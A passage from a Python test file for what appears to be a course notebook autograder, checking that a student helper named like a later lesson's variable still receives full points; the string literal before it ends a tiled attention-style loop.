        "            m = m_new\n"
        "            tiles += 1\n"
        "        out[i0:i1] = acc / l[:, None]\n"
        "    return out, tiles\n"
    ),
)


def test_a_helper_named_like_a_later_lesson_variable_keeps_its_points(course):
    variant = HELPER_NAMED_LIKE_A_LESSON_VARIABLE
    with _put_back(course):
        scores = _grade(
            course, variant.lesson, _right_notebook(_source(course, variant.lesson), [variant])
        )
    points, max_points, feedback = scores[variant.cell]
    print(f"\n{variant.name} / {variant.cell}: given {points} of {max_points}, fair {max_points}")
    assert points == max_points, f"{variant.name}: {feedback}"
